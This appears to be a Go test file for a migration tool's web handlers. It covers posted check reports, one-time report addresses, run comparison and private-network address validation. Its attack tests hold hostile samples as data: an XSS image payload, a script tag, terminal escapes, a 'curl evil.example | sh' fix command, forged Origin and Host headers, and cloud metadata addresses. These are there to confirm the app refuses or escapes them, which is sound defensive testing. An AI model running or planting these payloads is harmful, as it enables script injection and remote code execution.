package handlers_test

import (
	"encoding/json"
	"html"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"onramp/doctor"
	"onramp/migration"
	"onramp/runs"
)

// printed is what onramp check --json prints for a migration of the desk, bent by the test.
func (d *desk) printed(m, code string, bend ...func(*doctor.Report)) string {
	d.t.Helper()
	v, err := d.acts.Book.View(d.t.Context(), strings.TrimPrefix(m, "/m/"))
	check(d.t, err)
	r := doctor.Report{Schema: doctor.Schema, Rules: doctor.RulesDate, TestedFrom: "worker-1", TookMS: 12, At: time.Now(), Verdict: doctor.Explain(code, doctor.Certain, nil),
		Target: doctor.ReportTarget{Address: "localhost:7299", Namespace: v.Namespace.Namespace, Auth: "mtls", Leaf: v.Certificate.LeafFingerprint}}
	status := doctor.Pass
	for _, id := range doctor.StageIDs {
		s := doctor.Stage{ID: id, Status: status, Evidence: map[string]any{"seen": "x"}, Findings: []string{}}
		if id == r.Verdict.Stage {
			s.Status, status = doctor.Fail, doctor.NotReached
		}
		r.Stages = append(r.Stages, s)
	}
	for _, b := range bend {
		b(&r)
	}
	text, err := json.Marshal(r)
	check(d.t, err)
	return string(text)
}

// postTo posts as onramp check --post does.
func (d *desk) postTo(url, body string, headers ...string) reply {
	d.t.Helper()
	return d.send(d.request("POST", strings.TrimPrefix(url, d.srv.URL), strings.NewReader(body), append([]string{"Content-Type", "application/json"}, headers...)...))
}

var postAddress = regexp.MustCompile(`--post (http://\S+/report/[a-z0-9]+\.json)`)

// address makes a one-time address and returns it.
func (d *desk) address(m string) string {
	d.t.Helper()
	page := d.post(m+"/test/elsewhere", "else_cert_path", "/etc/my certs/client.pem", "else_key_path", "~/client.key", "else_queue", "Q'1", "else_by", "Dana").want(d.t, 200)
	found := postAddress.FindStringSubmatch(html.UnescapeString(regexp.MustCompile(`<[^>]*>`).ReplaceAllString(page.body, "")))
	if found == nil {
		d.t.Fatalf("no address on the page\n%s", mainOf(page.body))
	}
	return found[1]
}

// TestElsewhere: a command with a one-time address comes from the page, and what it posts is a run of its own
// kind: permanent, shown as reported, done for step 4 and for no other.
func TestElsewhere(t *testing.T) {
	d := sit(t, deskOptions{})
	m, _ := d.rehearsed()
	d.get(m+"/test").want(t, 200, "Run it where the worker runs", "--json", "PowerShell").lacks(t, "--post")
	page := d.post(m+"/test/elsewhere", "else_cert_path", "/etc/my certs/client.pem", "else_key_path", "~/client.key", "else_queue", "Q'1").want(t, 200, "The command is ready", "on this computer only")
	plainPage := html.UnescapeString(regexp.MustCompile(`<[^>]*>`).ReplaceAllString(page.body, ""))
	for _, want := range []string{
		`onramp check --address localhost:7299 --namespace docs-assembly.a2dd6 --tls-cert-path '/etc/my certs/client.pem' --tls-key-path ~/client.key --tls-ca-path `,
		`--task-queue 'Q'\''1' --post http://127.0.0.1:`,
		`--tls-cert-path '/etc/my certs/client.pem' --tls-key-path (Join-Path $HOME client.key)`, `--task-queue 'Q''1' --post`,
	} {
		if !strings.Contains(plainPage, want) {
			t.Errorf("the page lacks %s\n%s", want, plainPage)
		}
	}
	address := d.address(m)
	r := d.postTo(address, d.printed(m, "OK")).want(t, 200, `"onramp.posted/1"`, `"counts": true`)
	var posted struct{ URL string }
	check(t, json.Unmarshal([]byte(r.body), &posted))
	run := strings.TrimPrefix(posted.URL, d.srv.URL)
	d.get(run).want(t, 200, "Reported, not observed", "Dana ran onramp check on worker-1", "Counts for step 4, as reported", "Connected")
	d.get(run+".json").want(t, 200, `"onramp.check/1"`, `"reported"`, `"host": "worker-1"`)
	d.get(m).want(t, 200, "check 1 passed, as reported from worker-1", "Connection test passed, as reported from worker-1")
	d.get(m+"/test").want(t, 200, "as reported by Dana", "worker-1", run+".json")
	d.get(m+"/runs").want(t, 200, "as reported by Dana")
	if v, err := d.acts.Book.View(t.Context(), strings.TrimPrefix(m, "/m/")); err != nil || v.Step(migration.StepTest).Status != migration.Done {
		t.Errorf("step 4: %+v, %v", v.Step(migration.StepTest), err)
	}
	// Pasted: the same report leads to the same run; another one to its own.
	if at := d.upload(m+"/test/report", "report", d.printed(m, "CL-03", func(r *doctor.Report) {
		r.NotChecked = []string{"grpc: not reached", "the filters <i>"}
	}), "report_by", "Omar <b>").to(t); at == run {
		t.Error("another report leads to the first one's run")
	} else {
		d.get(at).want(t, 200, "Tested from worker-1 · rule set "+doctor.RulesDate, "What was not checked", "Stage 8 (Temporal answers): not reached.", "The filters &lt;i&gt;.").lacks(t, "<i>")
		d.get(at).want(t, 200, "Not checked: grpc: not reached; the filters &lt;i&gt;.")
		d.get(at).want(t, 200, "Omar &lt;b&gt; ran onramp check on worker-1", "pasted", "CL-03", "Stopped at Certificate").lacks(t, "Omar <b>")
	}
	if log := d.log.String(); strings.Contains(log, strings.TrimSuffix(address[strings.LastIndexByte(address, '/')+1:], ".json")) {
		t.Error("the one-time address is in the log")
	}
	if strings.Contains(d.snapshot(), address[strings.LastIndexByte(address, '/')+1:len(address)-5]) {
		t.Error("the one-time address is stored")
	}
}

// TestElsewhereAttacked: what is forged, replayed, for another migration, too big or dressed up does no harm.
func TestElsewhereAttacked(t *testing.T) {
	d := sit(t, deskOptions{})
	m, _ := d.rehearsed()
	other := strings.TrimSuffix(d.post("/new", "name", "Orders", "lang", "go", "mode", "cloud", "auth", "mtls").to(t), "/namespace")
	d.post(other+"/namespace", "namespace", "orders.a1b2c").to(t)

	address, theirs := d.address(m), d.address(other)
	before := d.snapshot()
	good := d.printed(m, "OK")
	d.postTo(theirs, good).want(t, 422, "another namespace")                                                         // for another migration
	d.postTo(strings.Replace(address, "/report/", "/report/x", 1), good).want(t, 410)                                // guessed
	d.postTo("/report/"+strings.Repeat("a", 32)+".json", good).want(t, 410, `"gone"`)                                // never made
	d.postTo(address, good, "Sec-Fetch-Site", "cross-site").want(t, 403)                                             // by another site's page
	d.postTo(address, good, "Origin", "https://evil.example").want(t, 403)                                           //
	d.postTo(address, good, "Host", "evil.example").want(t, 421)                                                     // DNS rebinding
	d.postTo(address, strings.Repeat("x", 65<<10)).want(t, 413)                                                      // huge
	d.postTo(address, strings.Repeat("[", 60<<10)).want(t, 422)                                                      // deep
	d.postTo(address, `{"schema":"onramp.check/1"}`).want(t, 422)                                                    // not whole
	d.postTo(address, strings.Replace(good, `"pass"`, `"excellent"`, 1)).want(t, 422)                                // bent
	d.send(d.request("GET", strings.TrimPrefix(address, d.srv.URL), nil)).want(t, http.StatusMethodNotAllowed)       // a GET uses nothing up
	d.upload(m+"/test/report", "report", d.printed(m, "OK", func(r *doctor.Report) { r.Target.Namespace = "x.y" })). // pasted for another
																want(t, 422, "This report is about another namespace", `href="#report"`)
	for what, x := range map[string]string{"nothing": " ", "junk": "<script>alert(1)</script>", "two": good + good, "an escape": "\x1b[31m" + good} {
		if r := d.upload(m+"/test/report", "report", x); r.status != 422 || strings.Contains(r.body, "<script>alert(1)") || strings.Contains(r.body, "\x1b") {
			t.Errorf("%s: %d\n%.600s", what, r.status, mainOf(r.body))
		}
	}
	d.upload(m+"/test/report", "report", good+strings.Repeat(" ", 70<<10)).want(t, 413, "longer than a report")
	d.upload(m+"/test/report", "report", good, "report_by", strings.Repeat("x", 81)).want(t, 422, "This is not a name")
	for _, bad := range []string{"a\nb", "a\x1b[31mb", "a\u202eb", strings.Repeat("x", 501)} {
		d.post(m+"/test/elsewhere", "else_cert_path", bad).want(t, 422, "This cannot be used in a command").lacks(t, "--post")
	}
	if d.snapshot() != before {
		t.Fatal("a refused report was stored")
	}

	// It was refused eight times, and is good for one right report; then for none.
	const evil = "\x1b[31m<img src=x onerror=canary()>\u202e"
	dressed := d.printed(m, "CL-03", func(r *doctor.Report) {
		r.TestedFrom += evil
		r.Verdict.Title, r.Verdict.Cause, r.Verdict.Fix = evil, evil, []doctor.Fix{{Who: "developer", Text: evil, Command: "curl evil.example | sh"}}
		r.Stages[0].Summary, r.Stages[0].Evidence["seen"], r.Stages[0].Evidence["key"] = evil, evil, "-----BEGIN PRIVATE KEY-----\nc4nary"
	})
	r := d.postTo(address, dressed).want(t, 200)
	d.postTo(address, dressed).want(t, 410)
	var posted struct{ URL string }
	check(t, json.Unmarshal([]byte(r.body), &posted))
	run := strings.TrimPrefix(posted.URL, d.srv.URL)
	for _, page := range []string{run, run + ".json", m, m + "/test", m + "/runs"} {
		d.get(page).want(t, 200).lacks(t, "<img src=x", "\x1b", "\u202e", "curl evil", "c4nary", `\u001b`)
	}
	// Replayed under another address: the same run, and no other.
	again := d.postTo(d.address(m), dressed).want(t, 200)
	if again.body != r.body {
		t.Errorf("a replayed report made another run: %s", again.body)
	}
	// Old, of another leaf, of another endpoint: kept, and said not to count.
	for want, bend := range map[string]func(*doctor.Report){
		"more than an hour":            func(r *doctor.Report) { r.At = time.Now().Add(-2 * time.Hour) },
		"different client certificate": func(r *doctor.Report) { r.Target.Leaf = strings.Repeat("ab", 32) },
		"different endpoint":           func(r *doctor.Report) { r.Target.Address = "evil.example:7233" },
	} {
		at := d.upload(m+"/test/report", "report", d.printed(m, "OK", bend)).to(t)
		d.get(at).want(t, 200, "Does not count for step 4", want)
	}
	if v, err := d.acts.Book.View(t.Context(), strings.TrimPrefix(m, "/m/")); err != nil || v.Step(migration.StepTest).Status == migration.Done {
		t.Errorf("step 4 is done by a report that does not count: %+v, %v", v.Step(migration.StepTest), err)
	}
	if log := d.log.String(); strings.Contains(log, "canary") || strings.Contains(log, "c4nary") || strings.Contains(log, "\x1b") {
		t.Error("a text of the report is in the log")
	}
}

// TestCompareRuns: two runs side by side, the older first, whichever is asked about; and their JSON.
func TestCompareRuns(t *testing.T) {
	d := sit(t, deskOptions{code: "CL-03"})
	m, k := d.rehearsed()
	first := d.upload(m+"/test", "key_source", "paste", "key_pem", k.key, "task_queue", "Q1").to(t)
	d.finish(first)
	d.get(first).want(t, 200).lacks(t, "Compare with run")
	d.get(first+"/compare").want(t, 200, "There is no other check yet")
	second := d.upload(m+"/test/report", "report", d.printed(m, "OK")).to(t)
	d.get(second).want(t, 200, "Compare with check 1", second+"/compare/"+last(first))
	d.get(second+"/compare").want(t, 200, "Choose the check to compare with", second+"/compare/"+last(first))
	d.get(m+"/test").want(t, 200, second+"/compare/"+last(first), `data-testid="spark"`, "Last 2 checks, oldest first: 1 passed, 1 failed")
	d.get(m+"/runs").want(t, 200, second+"/compare/"+last(first), `data-testid="spark"`)
	d.get(m).want(t, 200, "How long checks took", "Last 2 checks, oldest first: 1 passed, 1 failed. Min", `<a href="`+first+`">Check 1: `)
	for _, page := range []string{second + "/compare/" + last(first), first + "/compare/" + last(second)} {
		d.get(page).want(t, 200, "Now passes at Certificate; before: CL-03.", "Check 1 and check 2 compared", "alert 48", "Tested from", "worker-1", "observed by Onramp", "Q1", page+".json")
		var diff struct {
			Schema, Summary string
			Before, After   int
			Stages          []struct {
				ID      string
				Changed bool
			}
			Inputs []doctor.Change
		}
		check(t, json.Unmarshal([]byte(d.get(page+".json").want(t, 200).body), &diff))
		if diff.Schema != "onramp.compare/1" || diff.Before != 1 || diff.After != 2 || len(diff.Stages) != 10 || !diff.Stages[6].Changed || diff.Summary != "Now passes at Certificate; before: CL-03." {
			t.Errorf("%+v", diff)
		}
	}
	d.get(first+"/compare/"+last(first)).want(t, 200, "Both are the same check")
	other, _ := d.rehearsed()
	d.get(other+"/test/"+last(second)+"/compare/"+last(first)).want(t, 404)
	d.get(second+"/compare/nope").want(t, 404)
	d.get(second+"/compare/nope.json").want(t, 404, `"not-found"`)
}

func last(page string) string { return page[strings.LastIndexByte(page, '/')+1:] }

// TestRunsNeverChange: whatever state a run is in, its page and JSON say so; one that has ended stays as it is.
func TestRunsNeverChange(t *testing.T) {
	d := sit(t, deskOptions{byHand: true})
	m, run, _ := d.byHand()
	d.stage("input", doctor.Pass)
	d.get(run+".json").want(t, 409, `"conflict"`)
	d.get(run+"/compare/"+last(run)).want(t, 200)
	check(t, d.runs.Stop(t.Context(), strings.TrimPrefix(m, "/m/"), last(run)))
	d.finish(run)
	page := d.get(run).want(t, 200, "Interrupted")
	d.get(run+".json").want(t, 200, `"code": "unknown"`) // stopped: as far as it came
	killed, err := d.db.AddRun(t.Context(), runs.Run{Owner: "a process that was killed", Lease: time.Now().Add(-time.Second), Row: runs.Row{
		Outcome: migration.Outcome{ID: "killed", MigrationID: strings.TrimPrefix(m, "/m/"), Kind: migration.CheckRun, State: migration.RunRunning, Started: time.Now()}}})
	check(t, err)
	check(t, d.runs.Resume(t.Context()))
	d.get(m+"/test/"+killed.ID).want(t, 200, "Interrupted", "Nothing is known beyond the checks below")
	d.get(m+"/test/"+killed.ID+".json").want(t, 410, `"gone"`)
	second := d.upload(m+"/test/report", "report", d.printed(m, "OK")).to(t)
	d.get(second+"/compare/"+last(run)).want(t, 200, "Check 1 was interrupted and has no verdict")
	d.get(m+"/test").want(t, 200, "1 passed, 2 interrupted").lacks(t, killed.ID+".json")
	text := d.get(second+".json").want(t, 200).body
	for range 3 {
		if d.get(second+".json").body != text {
			t.Error("the JSON of an ended run changes")
		}
	}
	status := regexp.MustCompile(`(?s)<p id="run-status".*?</p>`)
	if got := d.get(run).body; status.FindString(got) != status.FindString(page.body) {
		t.Error("an interrupted run changes")
	}
	// The JSON is the contract's, and no key of it is missing.
	var rep map[string]json.RawMessage
	check(t, json.Unmarshal([]byte(text), &rep))
	for _, key := range []string{"schema", "target", "verdict", "stages", "tested_from", "rules", "took_ms"} {
		if rep[key] == nil {
			t.Errorf("the JSON lacks %s", key)
		}
	}
	for of, keys := range map[string][]string{"target": {"address", "namespace", "server_name", "auth", "normalised"},
		"verdict": {"code", "level", "stage", "title", "cause", "not_wrong", "fix", "candidates"}} {
		var part map[string]json.RawMessage
		check(t, json.Unmarshal(rep[of], &part))
		for _, key := range keys {
			if part[key] == nil || string(part[key]) == "null" {
				t.Errorf("%s lacks %s", of, key)
			}
		}
	}
}

// TestOldServer: where the application runs today is asked only near by, goes to the doctor as an address, and
// stands in the form again.
func TestOldServer(t *testing.T) {
	d := sit(t, deskOptions{})
	m, k := d.rehearsed()
	for address, want := range map[string]string{
		"169.254.169.254:7233": "private network", "[fe80::1]:7233": "private network", "8.8.8.8:7233": "private network", "100.100.100.200:7233": "private network",
		"[::ffff:169.254.169.254]:7233": "private network", "[64:ff9b::a9fe:a9fe]:7233": "private network", "0.0.0.0:7233": "private network", "[fd00:ec2::254]:7233": "private network", "[::]:7233": "private network",
		"nowhere.invalid:7233": "does not resolve", "local host:7233": "", strings.Repeat("x", 400): "not an address", "localhost:99999": "",
	} {
		r := d.upload(m+"/test", "key_source", "paste", "key_pem", k.key, "local_address", address)
		if r.status != 422 || !strings.Contains(r.body, want) || !strings.Contains(r.body, `href="#local_address"`) {
			t.Errorf("%s answered %d, want 422 with %q at the field\n%.900s", address, r.status, want, mainOf(r.body))
		}
	}
	d.upload(m+"/test", "key_source", "paste", "key_pem", k.key, "local_address", "localhost:7233", "local_namespace", "a\x1bb").want(t, 422, `href="#local_namespace"`)
	for _, address := range []string{"localhost:7233", "127.0.0.1:7233", "10.1.2.3:7233", "[::1]:7233"} {
		run := d.upload(m+"/test", "key_source", "paste", "key_pem", k.key, "local_address", address, "local_namespace", "dev", "task_queue", "Q").to(t)
		d.finish(run)
		d.get(m+"/test").want(t, 200, `value="`+address+`"`, `value="dev"`, `value="Q"`)
	}
	d.post(m+"/certificates/lend", "key_pem", k.key)
	rows, err := d.runs.Rows(t.Context(), strings.TrimPrefix(m, "/m/"), migration.CheckRun, 1)
	check(t, err)
	if rows[0].LocalAddress != "[::1]:7233" {
		t.Errorf("the run was asked %+v", rows[0])
	}
}
